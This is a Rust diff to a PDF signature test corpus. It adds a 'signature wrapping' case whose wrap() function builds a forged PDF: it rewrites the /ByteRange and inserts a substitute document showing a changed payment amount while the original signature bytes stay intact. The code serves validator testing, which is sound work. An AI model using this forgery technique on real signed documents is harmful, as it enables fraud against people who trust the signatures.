@@ -160,6 +160,7 @@ impl Corpus {
             ),
         );
         self.but_pyhanko(OTHER_BYTES);
+        self.add("signature wrapping", THAT_WEEK, BROKEN, wrap(&signed));
         self.add(
             "dictionary rewritten after signing",
             THAT_WEEK,
@@ -505,4 +506,55 @@ fn field_number(file: &[u8]) -> u32 {
         .unwrap()
         .parse()
         .unwrap()
+}
+
+/// Signature wrapping (Mladenov et al. 2019, §4.3): the signed bytes stay, apart, and between them comes another document, with a
+/// dictionary of the same signature whose byte range leaves it out.
+fn wrap(signed: &[u8]) -> Vec<u8> {
+    let [_, hole, second, length] = byte_range(signed);
+    let tail = &signed[second..second + length];
+    let text = String::from_utf8_lossy(tail);
+    let start: usize = text[text.rfind("startxref").unwrap() + 9..]
+        .split_whitespace()
+        .next()
+        .unwrap()
+        .parse()
+        .unwrap();
+    // What the signed tail calls its cross-reference is now the attacker's: it stands at the same place.
+    let number = signature_number(signed);
+    let moved = start + 60_000;
+    let dictionary = object(signed, number);
+    let at = dictionary.find("/ByteRange").unwrap();
+    let end = at + dictionary[at..].find(']').unwrap() + 1;
+    let dictionary = format!(
+        "{}/ByteRange [0 {hole} {moved} {length}]{}",
+        &dictionary[..at],
+        &dictionary[end..]
+    );
+    let mut out = signed[..second].to_vec();
+    out.resize(start, b' ');
+    let mut evil = Vec::new();
+    let mut offsets = Vec::new();
+    let mut objects: Vec<(u32, String)> = (1..=14).map(|n| (n, object(signed, n))).collect();
+    let field = field_number(signed);
+    objects.push((field, object(signed, field)));
+    objects.push((number, dictionary));
+    objects[4].1 = stream("", "BT /F1 12 Tf 72 700 Td (Te betalen: 900 euro) Tj ET");
+    let table = 20 * (objects.len() + 1) + 300 + 12 * objects.len();
+    for (number, body) in &objects {
+        offsets.push((*number, start + table + evil.len()));
+        evil.extend(format!("{number} 0 obj\n{body}\nendobj\n").bytes());
+    }
+    let mut xref = String::from("xref\n0 1\n0000000000 65535 f \n");
+    for (number, offset) in offsets {
+        xref.push_str(&format!("{number} 1\n{offset:010} 00000 n \n"));
+    }
+    xref.push_str("trailer\n<< /Size 1000 /Root 1 0 R >>\n");
+    out.extend(xref.bytes());
+    out.resize(start + table, b' ');
+    out.extend(evil);
+    assert!(second <= start && out.len() <= moved);
+    out.resize(moved, b' ');
+    out.extend(tail);
+    out
 }
